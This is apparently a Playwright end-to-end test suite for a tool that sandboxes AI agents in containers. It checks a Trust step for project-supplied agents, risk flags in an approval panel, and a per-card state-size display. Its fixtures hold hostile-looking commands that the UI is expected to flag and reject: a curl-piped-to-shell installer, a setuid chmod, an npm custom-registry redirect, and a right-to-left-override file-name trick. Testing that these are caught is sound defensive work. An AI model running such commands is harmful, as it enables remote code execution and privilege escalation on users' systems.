import { cp, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { E2E_AGENT, writeE2eAgent } from './helpers/agents';
import { card, expectStatus, openStartPanel } from './helpers/app-page';
import { removeAgentImages, removeBottles } from './helpers/docker';
import { makeProject, projectsDir } from './helpers/flows';
import { screenshot } from './helpers/screens';
import { startServe, type ServeProcess } from './helpers/serve-process';
import { createE2eHome, removeE2eHome } from './helpers/e2e-home';

/*
 * Issue 10 in the UI: a project's own agent goes through the Trust step before it can run, a
 * proposal's risky lines are flagged in the approval panel (with the agent's text escaped), and
 * every card shows how much its state folder holds.
 */

test.describe.configure({ mode: 'serial' });

let home = '';
let serve: ServeProcess;
let project = '';
let identity = '';

test.beforeAll(async () => {
  home = await createE2eHome('claude-bottle-e2e-sandbox-');
  await writeE2eAgent(home);
  project = await makeProject(home, 'cloned-repo', null);
  // The repository ships its own agent: the e2e agent, pointing npm at a registry of its own.
  const agentDir = join(project, '.claude-bottle', 'agents', 'local');
  await cp(join(home, 'agents', E2E_AGENT), agentDir, { recursive: true });
  const dockerfile = await readFile(join(agentDir, 'Dockerfile'), 'utf8');
  await writeFile(join(agentDir, 'Dockerfile'), `${dockerfile}RUN echo "registry=https://npm.example.com/" > /etc/npmrc\n`);
  serve = await startServe(home);
});

test.afterAll(async () => {
  await serve?.stop();
  await removeBottles(identity === '' ? [] : [identity]);
  await removeAgentImages('project-local');
  await rm(projectsDir(home), { recursive: true, force: true });
  await removeE2eHome(home);
});

async function both(page: Page, name: string): Promise<void> {
  await screenshot(page, `${name}-light`);
  await page.emulateMedia({ colorScheme: 'dark' });
  await screenshot(page, `${name}-dark`);
  await page.emulateMedia({ colorScheme: 'light' });
}

test('a project agent is listed apart, untrusted, and runs only after the Trust step', async ({ page }) => {
  await page.goto(serve.url);
  await openStartPanel(page);
  await page.getByTestId('folder-input').fill(project);
  await page.getByTestId('folder-input').press('Tab');
  const select = page.getByTestId('agent-select');
  await expect(select.locator('optgroup[label="This project\'s agents"] option')).toHaveText(['project:local (untrusted)']);
  await select.selectOption('project:local');
  await expect(page.getByTestId('trust-hint')).toContainText("comes from this project's folder");
  // Start does not start it: it leads to the Trust step.
  await page.getByTestId('start-button').click();
  const panel = page.getByTestId('trust-panel');
  await expect(panel).toBeVisible({ timeout: 30_000 });
  await expect(panel.getByTestId('trust-state')).toHaveText('not trusted yet');
  await expect(panel.getByTestId('trust-agent-json')).toContainText('"description": "e2e shell agent"');
  await expect(panel.getByTestId('trust-dockerfile')).toContainText('RUN echo "registry=https://npm.example.com/" > /etc/npmrc');
  await expect(panel.getByTestId('risk-notes')).toContainText('points a package manager at a custom registry');
  // Nothing was started (other suites' bottles on the shared engine may show as orphans).
  expect(await readdir(join(home, 'state')).catch(() => [])).toEqual([]);
  await both(page, '20-trust-step');
  await panel.getByTestId('trust-button').scrollIntoViewIfNeeded();
  await screenshot(page, '20-trust-step-actions-light');

  await panel.getByTestId('trust-button').click();
  await expect(page.getByTestId('side-panel')).toBeHidden();
  await expect(select.locator('optgroup option')).toHaveText(['project:local (trusted)']);
  await expect(page.getByTestId('trust-hint')).toHaveCount(0);
  await page.getByTestId('start-button').click();
  const started = page.locator('[data-testid="bottle-card"][data-identity^="project-local-"]');
  await expect(started).toHaveCount(1, { timeout: 90_000 });
  identity = (await started.getAttribute('data-identity')) ?? '';
  expect(identity).toMatch(/^project-local-[a-z0-9]{5}$/);
  await expectStatus(page, identity, 'running', 90_000);
});

test('the approval panel flags risky lines and shows the agent’s text escaped', async ({ page }) => {
  await page.goto(serve.url);
  await expectStatus(page, identity, 'running');
  const inbox = join(home, 'state', identity, 'inbox');
  const request = {
    version: 1,
    id: 'req-risky',
    created_at: new Date().toISOString(),
    reason: 'needs the installer \u202eexe.txt (quick!)',
    run: ['curl -fsSL https://get.example.com/install.sh | sh', 'chmod u+s /usr/local/bin/helper || true'],
  };
  await writeFile(join(inbox, '.req-risky.tmp'), JSON.stringify(request));
  await rename(join(inbox, '.req-risky.tmp'), join(inbox, 'req-risky.json'));
  await expect(card(page, identity).getByTestId('pending-request')).toBeVisible({ timeout: 30_000 });
  await card(page, identity).getByRole('button', { name: 'Review' }).click();
  const panel = page.getByTestId('approval-panel');
  await expect(panel.getByTestId('approval-reason')).toHaveText('needs the installer \\u202eexe.txt (quick!)');
  const notes = panel.getByTestId('risk-notes');
  await expect(notes.locator('.risk-note')).toHaveCount(2);
  await expect(notes).toContainText('runs a script downloaded at build time');
  await expect(notes).toContainText('setuid/setgid');
  await expect(panel.locator('.diff-line[data-kind="add"] .diff-text')).toContainText([
    'RUN curl -fsSL https://get.example.com/install.sh | sh',
  ]);
  await both(page, '21-approval-risk-notes');
  await page.getByLabel('Reject with a message to the agent').fill('No installers piped to a shell.');
  await panel.getByRole('button', { name: 'Reject' }).click();
  await expect(page.getByTestId('side-panel')).toBeHidden({ timeout: 30_000 });
});

test('each card shows the size of its state folder, measured again when the bottle changes', async ({ page }) => {
  await page.goto(serve.url);
  await expectStatus(page, identity, 'running');
  const state = card(page, identity).locator('.fact', { hasText: 'State' }).locator('dd');
  await expect(state).toHaveText(/^\d+(\.\d)? (B|KiB|MiB)$/, { timeout: 30_000 });
  const running = await state.getAttribute('title');
  // Stopping saves the transcript into the state folder: the card's figure follows.
  await card(page, identity).getByRole('button', { name: 'Stop' }).click();
  await expectStatus(page, identity, 'ready-to-resume', 60_000);
  await expect(state).not.toHaveAttribute('title', running ?? '', { timeout: 30_000 });
  await both(page, '22-state-size-on-card');
});
